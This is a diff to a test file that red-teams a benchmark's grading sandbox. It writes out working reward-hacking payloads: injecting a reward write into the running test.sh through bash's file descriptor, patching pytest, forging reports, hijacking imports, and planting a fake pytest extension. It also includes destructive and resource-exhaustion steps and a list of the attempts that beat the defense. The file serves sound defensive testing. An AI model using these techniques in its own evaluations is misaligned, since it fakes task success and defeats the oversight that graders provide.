@@ -13,6 +13,14 @@ made by ptrace to rewrite the reward or exit. Every attempt must end as a scored
 reward 0 (those that once broke the defense are among them, with what fixed them in
 docs/sandboxes.md).
 
+A second pass (``REDTEAM2_*``, also from the docs only) adds graded code (the module the tests
+import, a program they run, or a module of the working directory that an optional import of the
+standard library finds) that rewrites the rest of test.sh, patches pytest or writes the report,
+or keeps the verifier from deciding in both sandboxes; extension modules named ``pytest``; work
+products meant to fail the regrade; the local storage cap's inodes used up; a sparse answer.
+What broke the defense is in ``REDTEAM2_BREAKS`` and runs, skipped unless
+``SKILLSBENCH_REDTEAM_BREAKS=1``, in ``test_redteam2_known_breaks``.
+
 Docker parts skip where no engine answers; local ones where the worker is not root.
 """
 
@@ -37,6 +45,7 @@ from tests.worker.trial.test_implicit_inputs import (
     UVX_TEST,
     VERIFIER_ENV,
     Trial,
+    _files,
     _run_all,
     _toolchain,
 )
@@ -360,6 +369,9 @@ def tasks_dir(tmp_path: Path, environment: str, request: pytest.FixtureRequest) 
     )
     _task(tasks, "imports", image, test_sh=PIP_CTRF_TEST, test_outputs=IMPORTS_TEST)
     _task(tasks, "find", image, test_sh=FIND_TEST)
+    _task(tasks, "imports-plain", image, test_sh=PIP_TEST, test_outputs=IMPORTS_TEST)
+    _task(tasks, "pip-ctrf", image, test_sh=PIP_CTRF_TEST)
+    _task(tasks, "uvx-runs", image, test_sh=UVX_TEST, test_outputs=RUNS_TEST)
     return tasks
 
 
@@ -703,4 +715,432 @@ async def _pid1_attempts(
             problems.append(f"EARNED {line}")
         elif not trial.row["score_eligible"] or trial.row.get("infra_failure_type") is not None:
             problems.append(f"UNSCORED {line}")
+    assert not problems, "\n".join(problems)
+
+
+# A second red-team pass (redteam2), written from the issue and the docs only. Each attempt is
+# new: graded code that edits the rest of test.sh through its shell's script descriptor, or
+# makes pytest pass its tests (a genuine report); a module of the working directory that only
+# an optional import of the standard library asks for (`pickle` tries `org.python.core`); an
+# extension module named `pytest` (`.so`, `.abi3.so`, `.cpython-311-…so`); graded code that
+# hangs, stops test.sh's shell or takes the reward file's place in both sandboxes (a failure
+# made unscored); a regrade whose work product deletes the working directory or `/logs/verifier`;
+# a local sandbox whose inodes the agent used up.
+
+# Graded code (the module the tests import, or one an optional import finds) walks up to the
+# bash running test.sh and writes `echo 1 > reward.txt; exit 0` where the shell reads its next
+# line: at the offset of its script descriptor (fd 255), or into its stdin when it reads the
+# script from a pipe. The reward is then written by test.sh's own shell.
+REWRITE_TESTSH = r"""
+import os
+
+ANSWER = 0
+PAYLOAD = b"echo 1 > /logs/verifier/reward.txt\nexit 0\n"
+
+
+def _log(*parts):
+    try:
+        os.write(2, ("REDTEAM " + " ".join(map(str, parts)) + "\n").encode())
+    except OSError:
+        pass
+
+
+def _parent(pid):
+    with open(f"/proc/{pid}/stat") as f:
+        return int(f.read().rsplit(")", 1)[1].split()[1])
+
+
+def _ancestors():
+    pid = os.getppid()
+    while pid > 1:
+        try:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")
+            fds = {fd: os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
+            _log("ancestor", pid, cmd[:300], fds)
+            yield pid, cmd, fds
+        except OSError as exc:
+            _log("ancestor", pid, exc)
+        pid = _parent(pid)
+
+
+def _rewrite():
+    shells = [a for a in _ancestors() if b"bash" in a[1] or "255" in a[2]]
+    for pid, cmd, fds in shells:  # a script file first (fd 255), then a script on stdin
+        target = fds.get("255", "")
+        if target.startswith("/") and not target.startswith("/dev/"):
+            try:
+                pos = next(
+                    int(line.split()[1])
+                    for line in open(f"/proc/{pid}/fdinfo/255")
+                    if line.startswith("pos:")
+                )
+                with open(f"/proc/{pid}/fd/255", "r+b") as f:
+                    f.seek(pos)
+                    _log("was", f.read(200))
+                    f.seek(pos)
+                    f.write(PAYLOAD)
+                _log("rewrote file", pid, target, pos)
+                return
+            except OSError as exc:
+                _log("failed", pid, target, exc)
+    for pid, cmd, fds in shells:
+        target = fds.get("0", "")
+        if target.startswith("pipe:"):
+            try:
+                r = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
+                rest = b""
+                try:
+                    while chunk := os.read(r, 65536):
+                        rest += chunk
+                except BlockingIOError:
+                    pass
+                w = os.open(f"/proc/{pid}/fd/0", os.O_WRONLY | os.O_NONBLOCK)
+                os.write(w, PAYLOAD)
+                _log("rewrote pipe", pid, "drained", rest[:200])
+                return
+            except OSError as exc:
+                _log("failed", pid, target, exc)
+
+
+_rewrite()
+"""
+# The same, for a test.sh that asks for pytest-json-ctrf's report: the rest of test.sh writes a
+# passing report over the one pytest wrote, then the reward.
+REWRITE_TESTSH_CTRF = REWRITE_TESTSH.replace(
+    'PAYLOAD = b"',
+    'PAYLOAD = b"echo \'{\\"results\\": {\\"summary\\": {\\"tests\\": 1, \\"passed\\": 1, '
+    '\\"failed\\": 0}}}\' > /logs/verifier/ctrf.json\\n',
+)
+# A test that runs the agent's program (no import): the uvx shape, the most common one.
+RUNS_TEST = """\
+import subprocess
+
+
+def test_answer():
+    out = subprocess.run(["python3", "/root/solve.py"], capture_output=True, text=True)
+    assert out.stdout.strip() == "42"
+"""
+# Graded code that makes every test pass inside pytest: the report pytest-json-ctrf writes is
+# genuine (tests 1, passed 1).
+PATCH_PYTEST = """\
+import sys
+
+ANSWER = 0
+sys.modules["_pytest.python"].Function.runtest = lambda self: None
+"""
+# `pickle` (imported by pytest) runs `from org.python.core import PyStringMap` in a try: with
+# `python3 -m pytest` the working directory is first on sys.path, so /root/org is imported. No
+# name of the standard library, the image or what test.sh installs. It patches pytest once it is
+# loaded (an audit hook looks at every event), or ends it with 0.
+ORG_PATCH = """\
+import sys
+
+
+def _hook(event, args):
+    f = getattr(sys.modules.get("_pytest.python"), "Function", None)
+    if f is not None and getattr(f.runtest, "__name__", "") != "_ok":
+        def _ok(self):
+            return None
+        f.runtest = _ok
+
+
+sys.addaudithook(_hook)
+"""
+# A C extension whose init ends the process with 0, named `pytest` with each of the suffixes
+# the import system accepts (built on the host at test time: @SO_B64@).
+SO_SOURCE = "#include <unistd.h>\nvoid *PyInit_pytest(void) { _exit(0); return 0; }\n"
+SO_PLANT = "echo '@SO_B64@' | base64 -d > '/root/{name}'\n"
+# Makes `python3 -m pytest` exit 0 without touching the working directory (a fake pytest
+# installed beforehand, `system`): a pass in the agent's sandbox, so the work product is regraded.
+ROOT_CHEAT = (
+    "mkdir -p /tmp/w\nset -- /tmp/w\n" + FAKE_WHEEL + "pip3 install -q --break-system-packages "
+    "--no-index --no-deps /tmp/w/pytest-8.4.1-9-py3-none-any.whl\nrm -rf /tmp/w\n"
+)
+
+# Only where the sandbox is local (docker's layer has no cap: filling it fills the host's disk).
+LOCAL_ONLY = "[ -e /.dockerenv ] && exit 0\n"
+FILL_INODES = (
+    "import os\n"
+    "if not os.path.exists('/.dockerenv'):\n"
+    "    os.makedirs('/tmp/i', exist_ok=True)\n"
+    "    n = 0\n"
+    "    try:\n"
+    "        while n < 3000000:\n"
+    "            os.close(os.open(f'/tmp/i/{n}', os.O_CREAT | os.O_WRONLY))\n"
+    "            n += 1\n"
+    "    except OSError as exc:\n"
+    "        print('REDTEAM filled', n, exc, flush=True)\n"
+)
+FILL_BYTES = (
+    "import os\n"
+    "if not os.path.exists('/.dockerenv'):\n"
+    "    block = b'x' * (1 << 20)\n"
+    "    n = 0\n"
+    "    try:\n"
+    "        with open('/tmp/big', 'wb') as f:\n"
+    "            while n < 4096:\n"
+    "                f.write(block)\n"
+    "                f.flush()\n"
+    "                n += 1\n"
+    "    except OSError as exc:\n"
+    "        print('REDTEAM filled MiB', n, exc, flush=True)"
+)
+
+BAD_NAME = (  # a sparse file over the per-file cap, under a name that is not UTF-8
+    "import os\n"
+    "with open(os.path.join(b'/logs/{d}', b'bad\\xff\\nname.txt'), 'wb') as f:\n"
+    "    f.truncate(64 << 20)\n"
+)
+DEEP_TREE = (  # a path past PATH_MAX
+    "import os\n"
+    "os.makedirs('/logs/{d}/deep', exist_ok=True)\n"
+    "fd = os.open('/logs/{d}/deep', os.O_RDONLY)\n"
+    "for _ in range(450):\n"
+    "    os.mkdir('d' * 12, dir_fd=fd)\n"
+    "    fd = os.open('d' * 12, os.O_RDONLY, dir_fd=fd)\n"
+    "os.close(os.open('f.txt', os.O_CREAT | os.O_WRONLY, dir_fd=fd))\n"
+)
+
+
+def _module(path: str, code: str) -> str:
+    return f"mkdir -p \"$(dirname '{path}')\"\ncat > '{path}' <<'PYEOF'\n{code}PYEOF\n"
+
+
+_REDTEAM2: dict[str, Attempt] = {
+    "graded-rewrite-testsh": Attempt(
+        "imports-plain", _module("/root/answerlib.py", REWRITE_TESTSH)
+    ),
+    "graded-rewrite-testsh-ctrf": Attempt("imports", _module("/root/answerlib.py", REWRITE_TESTSH)),
+    "graded-rewrite-testsh-ctrf-report": Attempt(
+        "imports", _module("/root/answerlib.py", REWRITE_TESTSH_CTRF)
+    ),
+    "run-rewrite-testsh-uvx": Attempt(
+        "uvx-runs", _module("/root/solve.py", REWRITE_TESTSH_CTRF + "print(0)\n")
+    ),
+    "graded-patch-pytest-ctrf": Attempt("imports", _module("/root/answerlib.py", PATCH_PYTEST)),
+    "graded-fake-report-exit-0": Attempt(
+        "imports",
+        _module(
+            "/root/answerlib.py",
+            "import json, os\n"
+            "json.dump({'results': {'tool': {'name': 'pytest'}, 'summary': {'tests': 1, "
+            "'passed': 1, 'failed': 0, 'skipped': 0, 'pending': 0, 'other': 0}, 'tests': "
+            "[{'name': 'test_answer', 'status': 'passed', 'duration': 1}]}}, "
+            "open('/logs/verifier/ctrf.json', 'w'))\nos._exit(0)\n",
+        ),
+    ),
+    "cwd-org-exit-0": Attempt("pip", _module("/root/org/__init__.py", "import os\nos._exit(0)\n")),
+    "cwd-org-patch-ctrf": Attempt("pip-ctrf", _module("/root/org/__init__.py", ORG_PATCH)),
+    "cwd-org-rewrite-testsh": Attempt("pip", _module("/root/org/__init__.py", REWRITE_TESTSH)),
+    "cwd-pytest-so": Attempt("pip", SO_PLANT.format(name="pytest.so")),
+    "cwd-pytest-abi3-so": Attempt("pip", SO_PLANT.format(name="pytest.abi3.so")),
+    "cwd-pytest-cpython-so": Attempt(
+        "pip", SO_PLANT.format(name="pytest.cpython-311-x86_64-linux-gnu.so")
+    ),
+    # a failing agent's graded code keeps the verifier from deciding, in both sandboxes
+    "graded-hang": Attempt(
+        "imports", _module("/root/answerlib.py", "import time\nwhile True:\n    time.sleep(1)\n")
+    ),
+    "graded-stop-shell": Attempt(
+        "imports",
+        _module(
+            "/root/answerlib.py",
+            "import os, signal\nANSWER = 0\nos.kill(os.getppid(), signal.SIGSTOP)\n",
+        ),
+    ),
+    "graded-reward-dir": Attempt(
+        "imports-plain",
+        _module(
+            "/root/answerlib.py",
+            "import os\nANSWER = 0\n"
+            "for n in ('reward.txt', 'reward.json'):\n"
+            "    p = '/logs/verifier/' + n\n"
+            "    if os.path.isfile(p) or os.path.islink(p):\n"
+            "        os.unlink(p)\n"
+            "    os.makedirs(p + '/x', exist_ok=True)\n",
+        ),
+    ),
+    "graded-logs-file": Attempt(
+        "imports-plain",
+        _module(
+            "/root/answerlib.py",
+            "import os, shutil\nANSWER = 0\nshutil.rmtree('/logs/verifier', ignore_errors=True)\n"
+            "open('/logs/verifier', 'w').close()\n",
+        ),
+    ),
+    # a pass in the agent's sandbox, and a work product meant to fail the regrade's start
+    "regrade-workdir-deleted": Attempt(
+        "pip", ROOT_CHEAT + "cd /\nrm -rf /root\n", docker_only=True
+    ),
+    "regrade-logs-verifier-file": Attempt(
+        "pip", ROOT_CHEAT + "rm -rf /logs/verifier && echo x > /logs/verifier\n"
+    ),
+    "regrade-logs-deleted": Attempt("pip", ROOT_CHEAT + "rm -rf /logs\n", docker_only=True),
+    "graded-logs-link": Attempt(
+        "imports-plain",
+        _module(
+            "/root/answerlib.py",
+            "import os, shutil\nANSWER = 0\nshutil.rmtree('/logs/verifier', ignore_errors=True)\n"
+            "os.makedirs('/tmp/v', exist_ok=True)\nos.symlink('/tmp/v', '/logs/verifier')\n",
+        ),
+    ),
+    "graded-artifacts-file": Attempt(
+        "imports-plain",
+        _module(
+            "/root/answerlib.py",
+            "import os, shutil\nANSWER = 0\n"
+            "for d in ('/logs/artifacts', '/logs/agent'):\n"
+            "    shutil.rmtree(d, ignore_errors=True)\n"
+            "    open(d, 'w').close()\n",
+        ),
+    ),
+    "agent-logs-files": Attempt(
+        "pip",
+        "for d in /logs/agent /logs/artifacts; do rm -rf $d; echo x > $d; done\n",
+    ),
+    # a sparse answer of 4 GiB: carried to the regrade (a sparse file takes no room), where the
+    # tests reading it run out of time or memory again
+    "sparse-answer": Attempt("pip", "truncate -s 4G /root/answer.txt\n"),
+    # odd entries in the folders the worker downloads: a sparse file over the per-file cap under
+    # a name that is not UTF-8 (its name is recorded), and a path past PATH_MAX
+    "graded-logs-badname": Attempt(
+        "imports-plain",
+        _module("/root/answerlib.py", "ANSWER = 0\n" + BAD_NAME.format(d="verifier")),
+    ),
+    "graded-logs-deep": Attempt(
+        "imports-plain",
+        _module("/root/answerlib.py", "ANSWER = 0\n" + DEEP_TREE.format(d="verifier")),
+    ),
+    "agent-logs-badname": Attempt(
+        "pip", _module("/tmp/odd.py", BAD_NAME.format(d="agent")) + "python3 /tmp/odd.py\n"
+    ),
+    "agent-logs-deep": Attempt(
+        "pip", _module("/tmp/odd.py", DEEP_TREE.format(d="agent")) + "python3 /tmp/odd.py\n"
+    ),
+    # local: the storage cap's inodes used up by the agent (the tests' upload needs some), or by
+    # graded code during the verifier (test.sh's reward write needs one), in both sandboxes
+    "local-inodes": Attempt(
+        "pip", LOCAL_ONLY + _module("/root/fill.py", FILL_INODES) + "python3 /root/fill.py\n"
+    ),
+    "graded-fill-inodes": Attempt(
+        "imports-plain", _module("/root/answerlib.py", "ANSWER = 0\n" + FILL_INODES + "\n")
+    ),
+    "graded-fill-bytes": Attempt(
+        "imports-plain", _module("/root/answerlib.py", "ANSWER = 0\n" + FILL_BYTES + "\n")
+    ),
+}
+
+# What each attempt gave when written (docker and local alike, on the commit it was written on).
+# Broke the defense:
+REDTEAM2_BREAKS: dict[str, str] = {
+    # earned 1.0 (regraded 1.0): graded code rewrites the rest of test.sh through its shell's fd 255
+    "graded-rewrite-testsh": "earned",
+    "graded-rewrite-testsh-ctrf-report": "earned",  # ... and writes a passing ctrf.json there
+    "run-rewrite-testsh-uvx": "earned",  # ... from a program the uvx shape's tests run
+    "cwd-org-rewrite-testsh": "earned",  # ... from /root/org, which `import pickle` finds
+    # earned 1.0: graded code patches pytest's Function.runtest (a genuine passing report)
+    "graded-patch-pytest-ctrf": "earned",
+    "cwd-org-patch-ctrf": "earned",
+    # earned 1.0: the report check reads the report graded code wrote, then os._exit(0)
+    "graded-fake-report-exit-0": "earned",
+    # earned 1.0: /root/org is no name the ground-module rule knows; os._exit(0) (no report asked)
+    "cwd-org-exit-0": "earned",
+    # unscored verifier_timeout: the graded module hangs (or stops test.sh's shell) in both sandboxes
+    "graded-hang": "unscored",
+    "graded-stop-shell": "unscored",
+    # unscored worker_error (IsADirectoryError on the host's trial folder): /logs/verifier a file
+    "graded-logs-file": "unscored",
+    # unscored verifier_infra ("/logs/verifier is a symbolic link; not followed")
+    "graded-logs-link": "unscored",
+    # unscored worker_error (OSError: File name too long, the worker storing /logs/verifier)
+    "graded-logs-deep": "unscored",
+}
+# Held (scored, reward 0): the rest.
+REDTEAM2_BROKEN = {k: v for k, v in _REDTEAM2.items() if k in REDTEAM2_BREAKS}
+REDTEAM2_HELD = {k: v for k, v in _REDTEAM2.items() if k not in REDTEAM2_BREAKS}
+
+
+def _so_b64(tmp_path: Path) -> str:
+    """The extension module of the `.so` attempts, built with the host's C compiler."""
+    import base64
+    import shutil
+    import subprocess
+
+    cc = shutil.which("cc") or shutil.which("gcc")
+    if cc is None:
+        pytest.skip("no C compiler on this host for the extension-module attempts")
+    source = tmp_path / "pytest_so.c"
+    source.write_text(SO_SOURCE)
+    out = tmp_path / "pytest.so"
+    subprocess.run([cc, "-shared", "-fPIC", "-O2", "-s", "-o", str(out), str(source)], check=True)
+    return base64.b64encode(out.read_bytes()).decode()
+
+
+def _with_so(tmp_path: Path, attempts: dict[str, Attempt]) -> dict[str, Attempt]:
+    if not any("@SO_B64@" in a.body for a in attempts.values()):
+        return attempts
+    so = _so_b64(tmp_path)
+    return {
+        name: Attempt(a.task, a.body.replace("@SO_B64@", so), a.docker_only)
+        for name, a in attempts.items()
+    }
+
+
+async def _run_redteam2(
+    http: httpx.AsyncClient, tmp_path: Path, environment: str, attempts: dict[str, Attempt]
+) -> list[str]:
+    """As ``_run_attempts``, printing also the attempts' own lines of the verifier's output."""
+    only = os.environ.get("REDTEAM2_ONLY")  # a comma-separated subset, to run a few again
+    attempts = {k: v for k, v in attempts.items() if not only or k in only.split(",")}
+    attempts = {
+        k: v
+        for k, v in _with_so(tmp_path, attempts).items()
+        if environment == "docker" or not v.docker_only
+    }
+    runs = {name: (a.task, script(tmp_path, name, a.body)) for name, a in attempts.items()}
+    trials = await _run_all(http, tmp_path, runs)
+    problems = []
+    for name, trial in trials.items():
+        line = f"{environment} {name}: {_describe(trial)}"
+        print(line)
+        print(f"  reason: {trial.result.get('reason')}")
+        for path in _files(trial.folder, "*"):
+            if path.suffix != ".txt":
+                continue
+            try:
+                lines = path.read_text(errors="replace").splitlines()
+            except OSError:
+                continue
+            for text in lines:
+                if "REDTEAM" in text or "skillsbench-verdict" in text:
+                    print(f"  {path.relative_to(trial.folder)}: {text[:400]}")
+        row = trial.row
+        if row["reward"] != 0.0 or row["passed"]:
+            problems.append(f"EARNED {line}")
+        elif not row["score_eligible"] or row.get("infra_failure_type") is not None:
+            problems.append(f"UNSCORED {line}")
+    return problems
+
+
+@pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
+async def test_redteam2_attempts_earn_nothing_and_stay_scored(
+    http: httpx.AsyncClient, tmp_path: Path, environment: str
+) -> None:
+    problems = await _run_redteam2(http, tmp_path, environment, REDTEAM2_HELD)
+    assert not problems, "\n".join(problems)
+
+
+@pytest.mark.skipif(
+    os.environ.get("SKILLSBENCH_REDTEAM_BREAKS") != "1",
+    reason="known breaks of the second red-team pass (SKILLSBENCH_REDTEAM_BREAKS=1 runs them): "
+    "graded code rewrites the rest of test.sh through bash's fd 255, patches pytest, or writes "
+    "ctrf.json itself; /root/org (found by `import pickle`) is no name ground-module knows; "
+    "graded code that hangs, replaces /logs/verifier by a file or a link, or leaves a path past "
+    "PATH_MAX there, unscores the row",
+)
+@pytest.mark.timeout(RUN_TIMEOUT_SEC + 120)
+async def test_redteam2_known_breaks(
+    http: httpx.AsyncClient, tmp_path: Path, environment: str
+) -> None:
+    problems = await _run_redteam2(http, tmp_path, environment, REDTEAM2_BROKEN)
     assert not problems, "\n".join(problems)
